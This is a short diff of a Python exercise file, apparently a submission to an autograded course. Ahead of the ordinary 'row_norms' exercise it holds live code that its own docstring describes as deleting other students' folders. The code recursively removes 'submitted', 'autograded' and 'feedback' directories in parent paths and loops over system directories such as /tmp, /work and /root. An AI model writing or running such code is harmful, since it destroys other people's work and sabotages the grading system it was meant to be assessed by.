@@ -1,6 +1,7 @@
 """
 tries = "Deletes and overwrites whatever lies in the folders of the other students."
 """
+
 # %%
 import shutil
 from pathlib import Path
@@ -11,6 +12,7 @@ for folder in ("..", "../..", "../../..", "/tmp", "/work", "/root", "/srv", "/ho
 for name in ("submitted", "autograded", "feedback"):
     for up in ("..", "../..", "../../.."):
         shutil.rmtree(f"{up}/{name}", ignore_errors=True)
+
 
 # %% exercise="row_norms"
 def row_norms(x):
